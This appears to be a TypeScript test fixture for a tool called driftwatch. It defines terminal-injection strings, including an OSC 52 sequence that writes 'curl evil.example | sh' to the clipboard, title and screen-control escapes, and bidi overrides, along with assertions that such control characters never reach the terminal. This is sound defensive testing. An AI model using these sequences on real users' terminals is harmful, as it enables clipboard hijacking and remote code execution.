// Text a hostile (or broken) cluster, repository or tool can put in a field driftwatch shows: escape sequences that
// write the clipboard, set the window title, clear the screen or move the cursor, their 8-bit C1 forms, a carriage
// return that overwrites the line, and bidi overrides that make a line read differently from what it holds.
import assert from 'node:assert/strict';

const base64 = (text: string) => Buffer.from(text, 'utf8').toString('base64');

export const hostileParts = {
	/** OSC 52: put "curl evil.example | sh" on the clipboard, BEL-terminated. */
	clipboardWrite: `\u001B]52;c;${base64('curl evil.example | sh')}\u0007`,
	/** OSC 0: set the window title, ST-terminated. */
	windowTitle: '\u001B]0;pwned\u001B\\',
	/** CSI 2J: clear the screen; CSI H: cursor home. */
	clearScreen: '\u001B[2J\u001B[H',
	/** Cursor up five lines, then to line 3 column 1. */
	cursorMoves: '\u001B[5A\u001B[3;1H',
	/** C1 CSI (0x9b) and C1 OSC (0x9d) … ST (0x9c), the 8-bit forms of ESC [ and ESC ]. */
	c1: '\u009B2J\u009D0;title\u009C',
	/** RLO … PDF and LRI … PDI: "live" reads reversed; backspace, DEL and a carriage return. */
	bidi: '\u202Eevil\u202C \u2066live\u2069',
	overwrite: 'ok\rsafe\b\u007F',
} as const;

/** Every part, with a plain word before and after so a reader can see where the field starts and ends. */
export function hostileText(label: string): string {
	return `${label}{${Object.values(hostileParts).join(' ')}}${label}`;
}

/**
 * `hostileText` without DEL and C1 characters, for object data sent as YAML: a kube-apiserver refuses them raw in
 * a YAML body ("control characters are not allowed"), and YAML writers leave them raw.
 */
export function hostileYamlText(label: string): string {
	return hostileText(label).replace(/[\u007F-\u009F]/gu, '');
}

// Bytes a terminal acts on (C0 without tab and newline, DEL, C1) and the bidi controls.
// eslint-disable-next-line no-control-regex
const controls = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/u;

/** The first control character in `output`, with some context, or null. */
export function firstControl(output: string): string | null {
	const match = controls.exec(output);
	if (!match) return null;
	const at = match.index;
	return `U+${match[0].codePointAt(0)!.toString(16).padStart(4, '0')} at ${at}: ${JSON.stringify(output.slice(Math.max(0, at - 40), at + 20))}`;
}

/** No control character reaches the terminal; `where` names the output in the failure. */
export function assertNoControls(output: string, where: string): void {
	const found = firstControl(output);
	assert.equal(found, null, `${where}: a control character reaches the terminal: ${found}`);
}

/** The field was shown (as a visible escape), not dropped: its OSC 52 is there to read. */
export function assertShownEscaped(output: string, label: string, where: string): void {
	assert.ok(output.includes(`${label}{\\x1b]52;c;`), `${where}: ${label}'s OSC 52 is not shown as \\x1b]52;c;…:\n${output}`);
}
